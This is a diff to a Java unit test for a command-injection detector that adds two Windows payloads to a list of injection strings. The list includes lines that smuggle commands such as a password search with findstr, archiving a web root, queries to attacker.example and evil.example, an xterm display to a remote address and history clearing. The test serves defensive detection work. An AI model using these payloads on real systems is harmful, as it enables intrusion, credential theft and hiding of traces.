@@ -52,7 +52,8 @@ class CmdiDetectorTest {
     ";awk 'BEGIN{print 1}'", "x|dig attacker.example", "x;whois evil.example", "x;last -n 5", "x|top -b",
     "x;lsmod", "x;tar -czf /tmp/w.tgz /var/www", "x;echo hi > /tmp/x;touch ./y",
     ";regedit HKLM\\Software\\Microsoft", "x & runas /user:admin cmd", "x | forfiles /p c:\\windows /c \"cmd /c dir\"",
-    "x&&winget install x", "x;sudo -u root id", "x;nice -n 19 whoami", "x;eval id", "x;su -c id", "x;id>/tmp/x",
+    "x&&winget install x", "x | findstr /si password *.xml", "x & xcopy c:\\inetpub x",
+    "x;sudo -u root id", "x;nice -n 19 whoami", "x;eval id", "x;su -c id", "x;id>/tmp/x",
     "x & timeout /t 5", "x;xterm -display 10.0.0.1:1", "x;history -c", "\";echo VAR$((5+5))",
     "&echo TST$((1+1))", "x;if [ 1 -eq 1 ];then sleep 5;fi", "|for i in 1 2;do sleep 1;done"
   })
